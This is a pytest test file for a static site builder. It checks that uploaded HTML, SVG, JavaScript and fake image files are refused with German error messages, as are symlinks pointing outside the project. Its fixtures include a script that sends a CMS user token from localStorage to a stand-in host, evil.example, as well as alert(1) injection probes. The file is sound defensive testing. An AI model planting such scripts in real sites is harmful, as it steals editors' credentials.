"""Files an editor's tool could add under ``docs/`` (an upload) and links out of the project
(issue 16): ``check`` refuses them in German, naming the file, and the build publishes nothing
of them and keeps the published site."""

from __future__ import annotations

from pathlib import Path

import pytest

from projectcopy import copy_project, run_check, run_microsite, snapshot
from sitebuild import build

UPLOADS = "docs/assets/uploads"
SCRIPT = b"<script>fetch('https://evil.example/?'+localStorage.getItem('decap-cms-user'))</script>"
ACTIVE = {
    "steal.html": SCRIPT,
    "steal.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "steal.js": b"fetch('https://evil.example/?' + localStorage.getItem('decap-cms-user'))",
    "seite.md": b"# Eine Seite\n\n<script src='../assets/uploads/steal.js'></script>\n",
    "steal.xhtml": SCRIPT,
}


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_project(tmp_path_factory.mktemp("foreign") / "project")


@pytest.fixture
def clean(project: Path) -> Path:
    yield project
    for path in [project / UPLOADS, project / "docs" / "de" / "x.md"]:
        if path.is_symlink() or path.is_file():
            path.unlink()
        elif path.is_dir():
            for child in path.iterdir():
                child.unlink()
            path.rmdir()


def _upload(project: Path, name: str, content: bytes) -> None:
    (project / UPLOADS).mkdir(parents=True, exist_ok=True)
    (project / UPLOADS / name).write_bytes(content)


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_an_active_file_under_docs_is_refused_by_check(clean: Path, name: str) -> None:
    _upload(clean, name, ACTIVE[name])
    result = run_check(clean)
    assert result.returncode == 1
    assert f"{UPLOADS}/{name}, Zeile 1, Spalte 1: die Datei „{name}“ darf nicht auf die " \
        "Website" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


def test_an_image_that_is_none_is_refused(clean: Path) -> None:
    _upload(clean, "bild.png", b"<html><script>alert(1)</script></html>")
    _upload(clean, "echt.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 32)
    result = run_check(clean)
    assert result.returncode == 1
    assert "„bild.png“ heißt wie eine PNG-Datei, ist aber keine" in result.stderr
    assert "echt.png" not in result.stderr


def test_a_page_outside_the_language_folders_is_refused(clean: Path) -> None:
    _upload(clean, "seite.md", b"# Seite\n")
    (clean / "docs" / "de" / "x.md").write_text("# Eine eigene Seite\n", encoding="utf-8")
    result = run_check(clean)
    assert result.returncode == 1
    assert "„seite.md“ darf nicht" in result.stderr
    assert "x.md" not in result.stderr


@pytest.mark.parametrize("where", ["docs/de/geheim.md", "data/projects.yaml"])
def test_a_link_to_a_file_outside_the_project_is_refused(clean: Path, tmp_path: Path,
                                                         where: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("# GEHEIMNIS-4711\n", encoding="utf-8")
    target = clean / where
    saved = target.read_bytes() if target.is_file() else None
    if saved is not None:
        target.unlink()
    target.symlink_to(secret)
    try:
        result = run_check(clean)
    finally:
        target.unlink()
        if saved is not None:
            target.write_bytes(saved)
    assert result.returncode == 1
    assert f"{where}, Zeile 1, Spalte 1: „{where}“ ist eine Verknüpfung (symbolischer Link) " \
        "auf eine Datei außerhalb des Projekts" in result.stderr, result.stderr
    assert "GEHEIMNIS" not in result.stderr + result.stdout


def test_the_build_publishes_nothing_of_them_and_keeps_the_site(clean: Path,
                                                                tmp_path: Path) -> None:
    site = tmp_path / "site"
    first = build(site, project=clean)
    assert first.returncode == 0, first.output
    before = snapshot(site)
    for name, content in ACTIVE.items():
        _upload(clean, name, content)
    secret = tmp_path / "secret.md"
    secret.write_text("# GEHEIMNIS-4711\n", encoding="utf-8")
    (clean / "docs" / "de" / "x.md").symlink_to(secret)
    second = build(site, project=clean)
    assert second.returncode == 1
    for name in ACTIVE:
        assert f"„{name}“ darf nicht auf die Website" in second.output
    assert "docs/de/x.md" in second.output
    assert snapshot(site) == before
    assert not list(site.rglob("steal*")) and not list(site.rglob("seite*"))


@pytest.mark.parametrize("command", [["format"], ["review", "leitbild-teilhabe", "--lang", "en"]])
def test_tools_do_not_write_through_a_link(clean: Path, tmp_path: Path,
                                           command: list[str]) -> None:
    data_file = clean / "data" / "projects.yaml"
    outside = tmp_path / "elsewhere.yaml"
    outside.write_bytes(data_file.read_bytes().replace(b"\n\n", b"\n"))  # not in layout
    before = outside.read_bytes()
    saved = data_file.read_bytes()
    data_file.unlink()
    data_file.symlink_to(outside)
    try:
        result = run_microsite(*command, cwd=clean)
    finally:
        data_file.unlink()
        data_file.write_bytes(saved)
    assert result.returncode == 1
    assert "ist eine Verknüpfung (symbolischer Link)" in result.stderr, result.stderr
    assert outside.read_bytes() == before
